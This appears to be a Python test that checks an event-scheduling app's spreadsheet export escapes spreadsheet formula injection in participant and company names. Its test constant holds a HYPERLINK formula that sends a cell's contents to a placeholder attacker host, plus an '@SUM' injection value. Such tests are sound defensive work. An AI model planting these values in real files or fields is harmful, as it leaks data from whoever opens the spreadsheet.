"""The officers' plan.xlsx never carries a participant's name as a live formula."""

from __future__ import annotations

import io

import openpyxl

from jembatan.events.domain.scheduling import execute_run, publish_draft, start_run
from jembatan.events.interfaces.plan_xlsx import plan_xlsx
from tests.events import factories

HOSTILE = '=HYPERLINK("http://evil.example/?leak="&F2,"x")'


def test_plan_xlsx_hostile_participant_name_is_inert_text(fair, officer) -> None:  # type: ignore[no-untyped-def]
    fair.budi.name = HOSTILE
    fair.budi.save()
    fair.budi.company.name = "@SUM(A1)"
    fair.budi.company.save()
    factories.accepted(fair.budi, fair.tanaka, 3)
    execute_run(start_run(fair.event, officer, time_limit=3).pk)
    publish_draft(fair.event, officer)
    book = openpyxl.load_workbook(io.BytesIO(plan_xlsx(fair.event)))
    meetings = book["Meetings"]
    participant, company = meetings.cell(row=2, column=5), meetings.cell(row=2, column=6)
    assert (participant.value, participant.data_type) == ("'" + HOSTILE, "s")
    assert (company.value, company.data_type) == ("'@SUM(A1)", "s")
    grid_cells = [cell for row in book["Grid"].iter_rows(min_row=2) for cell in row if cell.value]
    meeting_cell = next(cell for cell in grid_cells if "Tanaka" in str(cell.value))
    assert (meeting_cell.value, meeting_cell.data_type) == (
        f"'{HOSTILE} – Tanaka Hiroshi",
        "s",
    )
